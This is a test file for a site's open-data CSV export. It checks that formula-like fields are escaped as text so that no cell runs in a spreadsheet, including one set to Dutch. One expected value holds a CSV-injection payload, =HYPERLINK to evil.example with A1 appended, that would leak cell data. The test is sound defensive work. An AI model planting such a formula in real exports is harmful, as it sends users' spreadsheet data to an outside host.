/**
 * The open-data CSVs of the fixture site, opened as a spreadsheet program
 * opens them: a field that starts like a formula (a lesson's context starts
 * with =HYPERLINK(…)) is text, and no cell of any CSV runs as a formula.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { collectionNames } from '../../src/collections.ts';
import { dutchFormulaCells, formulaCells, openAsDutchSpreadsheet, openAsSpreadsheet } from '../support/spreadsheet.ts';

const site = inject('basicSite');

describe('the open-data CSVs in a spreadsheet', () => {
  it('show a field that starts with = as text, not as a link that sends the sheet away', () => {
    const cells = openAsSpreadsheet(fs.readFileSync(path.join(site, 'open-data/lessen.csv')));
    const context = cells.find((c) => c.text.includes('evil.example'));
    expect(context?.text).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Klik"): alleen voor de tests van de zoekpagina en van de CSV-bestanden.`);
    expect(context?.formula).toBeUndefined();
  });

  it('hold no cell that a spreadsheet would run, in any collection', () => {
    for (const collection of collectionNames) {
      const file = path.join(site, `open-data/${collection}.csv`);
      if (!fs.existsSync(file)) continue;
      expect(formulaCells(openAsSpreadsheet(fs.readFileSync(file))), collection).toEqual([]);
    }
  });

  it('hold no cell that a spreadsheet set to Dutch would run, split at semicolons, bodies and all', () => {
    for (const collection of collectionNames) {
      const file = path.join(site, `open-data/${collection}.csv`);
      if (!fs.existsSync(file)) continue;
      expect(dutchFormulaCells(openAsDutchSpreadsheet(fs.readFileSync(file))), collection).toEqual([]);
    }
  });
});
